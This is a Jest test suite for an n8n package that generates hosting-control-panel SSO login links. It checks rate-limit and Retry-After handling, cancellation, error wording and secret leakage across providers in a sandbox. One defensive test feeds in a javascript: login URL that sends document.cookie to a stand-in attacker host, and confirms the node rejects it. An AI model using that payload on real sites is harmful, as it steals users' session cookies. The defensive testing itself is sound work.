/**
 * The fault matrix (matrix.ts): every provider through every fault the
 * sandbox can make, each run once with one item and once with Continue On
 * Fail and three items, inside real n8n executions. Also: cancelling during a
 * long Retry-After wait, the README fault table, and no unhandled rejections.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';

import type { INodeExecutionData } from 'n8n-workflow';

import { expectNoSecrets, visibleText } from '../helpers/assertions';
import { PACKAGE_ROOT, runNodeWithin, startNode } from '../helpers/n8n';
import type { NodeRun, RunNodeOptions } from '../helpers/n8n';
import { Sandbox } from '../sandbox/server';
import { CASES, ROWS, applies, renderFaultTable } from './matrix';
import type { Outcome, ProviderCase, Row } from './matrix';

/**
 * Two sandboxes, so a cell's one-item run and its three-item run go side by
 * side (their waits overlap) without taking each other's faults.
 */
let sandbox: Sandbox;
let second: Sandbox;

/**
 * Jest gives a test file its own `process` object; Node reports unhandled
 * rejections on the real one, which jest-circus keeps in its state.
 */
function realProcess(): NodeJS.Process {
	const symbol = Object.getOwnPropertySymbols(globalThis).find((entry) => entry.description === 'JEST_STATE_SYMBOL');
	const state = symbol ? ((globalThis as Record<symbol, unknown>)[symbol] as { parentProcess?: NodeJS.Process }) : undefined;
	return state?.parentProcess ?? process;
}

const unhandled: unknown[] = [];
const collect = (reason: unknown) => unhandled.push(reason);

beforeAll(async () => {
	// Registered once the test run started: jest-circus swaps the process's handlers at run start.
	realProcess().on('unhandledRejection', collect);
	process.on('unhandledRejection', collect);
	[sandbox, second] = await Promise.all([Sandbox.start(), Sandbox.start()]);
});

afterAll(async () => {
	await Promise.all([sandbox.close(), second.close()]);
	// Let anything a closed socket rejects surface before checking.
	await new Promise((resolve) => setTimeout(resolve, 100));
	realProcess().off('unhandledRejection', collect);
	process.off('unhandledRejection', collect);
	expect(unhandled.map((reason) => String((reason as Error)?.stack ?? reason))).toEqual([]);
});

beforeEach(() => {
	sandbox.reset();
	second.reset();
});

const PERSISTENT_FAULT = 1000;

const LOGIN_LINK = /\/(hostup|installatron|mailup|wisecp|whmcs|cpanel)\/login\/[A-Za-z0-9_-]{8,}|PLESKSESSID=|\/directadmin\/api\/login\/url\?key=[A-Za-z0-9]{8,}/;

/** The error part of what a user sees: the node error, and the error items of a Continue On Fail run. */
function errorText(run: NodeRun): string {
	const errorItems = run.items.filter((item) => 'error' in item.json);
	return visibleText({ ...run, items: errorItems });
}

function targetRequests(c: ProviderCase, where: Sandbox = sandbox) {
	return where.requestsTo(c.prefix).filter((entry) => entry.method === c.method && entry.path.includes(c.path));
}

/**
 * Runs the node, cancelling it if it is not done by the deadline (runNodeWithin),
 * so a cell that waits far too long fails as such and leaves nothing running.
 */
async function runWithDeadline(options: RunNodeOptions, ms: number): Promise<NodeRun & { overran: boolean; elapsed: number; endedAt: number }> {
	const started = Date.now();
	const run = await runNodeWithin(options, ms);
	return { ...run, elapsed: Date.now() - started, endedAt: Date.now() };
}

function runCell(where: Sandbox, c: ProviderCase, row: Row, items: number) {
	const arrangement = row.arrange(where, c, items) ?? {};
	return {
		arrangement,
		done: runWithDeadline(
			{
				type: c.type,
				parameters: { ...c.parameters, ...arrangement.parameters },
				credentials: arrangement.credentials ?? c.credentials(where),
				items: Array.from({ length: items }, (_, index) => ({ index })),
				continueOnFail: items > 1,
			},
			row.deadlineMs ?? 8000,
		),
	};
}

function secretsOf(c: ProviderCase, run: NodeRun, extra: string[] = []): string[] {
	return [...c.secrets(run), ...extra];
}

function expectErrorItem(item: INodeExecutionData, outcome: Extract<Outcome, { ok: false }>, c: ProviderCase): void {
	expect(Object.keys(item.json).sort()).toEqual(['code', 'error', 'httpCode', 'provider']);
	expect(item.json.error).toMatch(outcome.message);
	expect(item.json.code).toBe(outcome.code);
	expect(item.json.httpCode).toBe(outcome.httpCode);
	expect(item.json.provider).toBe(c.column === 'Custom' ? 'custom' : c.prefix);
}

function describeOutcome(outcome: Outcome): string {
	return outcome.ok ? (outcome.label ?? 'retried, then succeeded') : `error: ${outcome.message.source} (code ${outcome.code})`;
}

describe('fault matrix', () => {
	for (const row of ROWS) {
		describe(row.fault, () => {
			for (const c of CASES.filter((entry) => applies(row, entry))) {
				const outcome = row.expect(c);
				const cell = outcome.deviation ? it.failing : it;
				cell(`${c.name} → ${describeOutcome(outcome)}${outcome.deviation ? ' [not yet: see its deviation note]' : ''}`, async () => {
					// One item with Continue On Fail off (the outcome itself), and beside it
					// three items with Continue On Fail on (one output item per input item).
					const single = runCell(sandbox, c, row, 1);
					const many = runCell(second, c, row, 3);
					const [run, cof] = await Promise.all([single.done, many.done]);

					expect({ overran: run.overran }).toEqual({ overran: false });
					// Whatever the fault, no request reached another origin (the redirect row points there).
					expect([...sandbox.elsewhere, ...second.elsewhere]).toEqual([]);
					if (outcome.ok) {
						expect(run.error).toBeUndefined();
						expect(run.items).toHaveLength(1);
						c.checkSuccess(run.items[0]);
						outcome.checkItem?.(run.items[0]);
						if (outcome.statuses) expect(targetRequests(c).map((entry) => entry.status)).toEqual(outcome.statuses);
						if (outcome.minWaitMs) expect(run.elapsed).toBeGreaterThanOrEqual(outcome.minWaitMs);
						// Retried no earlier than the provider said (10 ms for clock granularity).
						if (single.arrangement.notBefore) expect(run.endedAt).toBeGreaterThanOrEqual(single.arrangement.notBefore - 10);
					} else {
						expect(run.items).toHaveLength(0);
						expect(run.error?.message).toMatch(outcome.message);
						expect(run.error?.description).toContain(`error code: ${outcome.code}`);
						if (outcome.description) expect(run.error?.description).toMatch(outcome.description);
						if (outcome.httpCode !== null) expect(run.error?.httpCode).toBe(String(outcome.httpCode));
						if (outcome.requestsPerItem !== undefined) expect(targetRequests(c)).toHaveLength(outcome.requestsPerItem);
					}
					expectNoSecrets(run, secretsOf(c, run, single.arrangement.secrets));
					expect(errorText(run)).not.toMatch(LOGIN_LINK);

					expect({ overran: cof.overran }).toEqual({ overran: false });
					expect(cof.error).toBeUndefined();
					expect(cof.items.map((item) => item.pairedItem)).toEqual([{ item: 0 }, { item: 1 }, { item: 2 }]);
					for (const item of cof.items) {
						if (outcome.ok) {
							c.checkSuccess(item);
							outcome.checkItem?.(item);
						}
						else expectErrorItem(item, outcome, c);
					}
					if (!outcome.ok && outcome.requestsPerItem !== undefined) {
						const sent = targetRequests(c, second).length;
						// A pause the provider asked for holds for every item (README, "Speed and rate limits"):
						// items sent before the refusal came back were refused too; later ones send nothing.
						if (outcome.retryIn !== undefined) expect(sent).toBeGreaterThanOrEqual(outcome.requestsPerItem);
						else expect(sent).toBe(3 * outcome.requestsPerItem);
						expect(sent).toBeLessThanOrEqual(3 * outcome.requestsPerItem);
					}
					expectNoSecrets(cof, secretsOf(c, cof, many.arrangement.secrets));
					expect(errorText(cof)).not.toMatch(LOGIN_LINK);
				}, row.timeout ?? 20_000);
			}
		});
	}
});

describe('cancelling during a long Retry-After wait', () => {
	for (const c of CASES) {
		it(`${c.name}: the execution ends within a second`, async () => {
			sandbox.fault({ provider: c.prefix, method: c.method, path: c.path, times: 1, fault: { kind: 'rateLimit', retryAfter: '30' } });
			const execution = startNode({ type: c.type, parameters: c.parameters, credentials: c.credentials(sandbox) });
			const deadline = Date.now() + 5000;
			while (targetRequests(c).length === 0 && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 20));
			expect(targetRequests(c).map((entry) => entry.status)).toEqual([429]);
			await new Promise((resolve) => setTimeout(resolve, 200));
			const cancelledAt = Date.now();
			execution.cancel();
			const run = await execution.done;
			expect(Date.now() - cancelledAt).toBeLessThan(1000);
			expect(run.items).toHaveLength(0);
			// Nothing was asked again after the cancel.
			await new Promise((resolve) => setTimeout(resolve, 100));
			expect(targetRequests(c)).toHaveLength(1);
		});
	}
});

/** Faults outside the table, each once a break of a promise README makes that this suite found. */
describe('beyond the matrix', () => {
	const hostUpLink = CASES.find((entry) => entry.id === 'hostupLink') as ProviderCase;

	// "a wait longer than the configured maximum fails at once": only the item that got
	// the 429 does; the limiter holds every other item until the Retry-After time.
	it('a Retry-After over the maximum fails every item at once, with Max Concurrency 1 too', async () => {
		sandbox.fault({ provider: 'hostup', method: 'POST', path: '/actions/sso', times: PERSISTENT_FAULT, fault: { kind: 'rateLimit', retryAfter: '3600' } });
		const run = await runWithDeadline(
			{
				type: 'hostUp',
				parameters: { ...hostUpLink.parameters, requestOptions: { maxConcurrency: 1 } },
				credentials: hostUpLink.credentials(sandbox),
				items: [{}, {}, {}],
				continueOnFail: true,
			},
			2000,
		);
		expect(run.overran).toBe(false);
		expect(run.items.map((item) => item.json.code)).toEqual(['rate_limit_exceeded', 'rate_limit_exceeded', 'rate_limit_exceeded']);
	});

	// rateLimitWait turns it into an Infinity/Invalid Date; the "retry in … (at …)" message
	// then throws RangeError: the item fails with "Invalid time value" and no provider code.
	it('an absurd Retry-After fails as a rate limit that says to retry later', async () => {
		sandbox.fault({ provider: 'hostup', method: 'POST', path: '/actions/sso', times: PERSISTENT_FAULT, fault: { kind: 'rateLimit', retryAfter: '99999999999999999999' } });
		const run = await runWithDeadline({ type: 'hostUp', parameters: hostUpLink.parameters, credentials: hostUpLink.credentials(sandbox) }, 3000);
		expect(run.error?.message).toMatch(/Retry in \d+ seconds/);
		expect(run.error?.description).toContain('HostUp error code: rate_limit_exceeded');
	});

	// n8n's NodeApiError swaps any message containing a Node error code (EEXIST, EPERM, …,
	// case-insensitive) for its own sentence: "preexisting" contains "eexist".
	it("a provider message stays in the provider's words", async () => {
		sandbox.fault({
			provider: 'hostup',
			method: 'POST',
			path: '/actions/sso',
			times: PERSISTENT_FAULT,
			fault: { kind: 'status', status: 409, code: 'conflict', message: 'A preexisting SSO session blocks this login.', extra: { title: 'Conflict' } },
		});
		const run = await runWithDeadline({ type: 'hostUp', parameters: hostUpLink.parameters, credentials: hostUpLink.credentials(sandbox) }, 3000);
		expect(run.error?.message).toBe('Conflict: A preexisting SSO session blocks this login.');
	});

	// The output's `url` is "https://…" (README, "The link output"); zod's .url() lets any scheme through.
	it('a login "URL" that is not http(s) is not handed on as a link', async () => {
		sandbox.fault({
			provider: 'hostup',
			method: 'POST',
			path: '/actions/sso',
			times: PERSISTENT_FAULT,
			fault: { kind: 'status', status: 200, extra: { loginUrl: 'javascript:fetch("//evil.example/"+document.cookie)', expiresAt: null, singleUse: true } },
		});
		const run = await runWithDeadline(
			{ type: 'hostUp', parameters: { resource: 'account', operation: 'createSsoLink', accountId: hostUpLink.parameters.accountId }, credentials: hostUpLink.credentials(sandbox) },
			3000,
		);
		expect(run.items.map((item) => item.json.url)).toEqual([]);
		expect(run.error?.description).toContain('error code: invalid_response');
	});

	// A lifetime no Date can hold makes normalizeSsoLink throw RangeError, which createSsoLink
	// reports as "The provider returned a login link that is not a valid URL".
	it("an absurd lifetime (MailUp's ExpiresIn) is not reported as an invalid URL", async () => {
		const mailUp = CASES.find((entry) => entry.id === 'mailup') as ProviderCase;
		sandbox.fault({
			provider: 'mailup',
			method: 'POST',
			path: '/Console/Sso',
			times: PERSISTENT_FAULT,
			fault: { kind: 'status', status: 200, extra: { Link: { href: 'https://a1b2c3.emailsp.com/sso/x' }, ExpiresIn: 1e300 } },
		});
		const run = await runWithDeadline({ type: 'mailUp', parameters: mailUp.parameters, credentials: mailUp.credentials(sandbox) }, 3000);
		expect(run.error?.message ?? '').not.toMatch(/not a valid URL/);
	});
});

describe('README fault table', () => {
	const tableFile = path.join(__dirname, 'fault-table.md');
	const table = renderFaultTable();

	it('test/faults/fault-table.md is what the matrix renders (UPDATE_FAULT_TABLE=1 rewrites it)', () => {
		if (process.env.UPDATE_FAULT_TABLE === '1') writeFileSync(tableFile, table);
		expect(readFileSync(tableFile, 'utf8')).toBe(table);
	});

	const readme = readFileSync(path.join(PACKAGE_ROOT, 'README.md'), 'utf8');
	const block = /<!-- fault-table:start -->\n?([\s\S]*?)<!-- fault-table:end -->/.exec(readme);
	(block ? it : it.skip)("README.md's fault-table block is the file (skipped while the markers are absent)", () => {
		expect(block?.[1].trim()).toBe(readFileSync(tableFile, 'utf8').trim());
	});
});
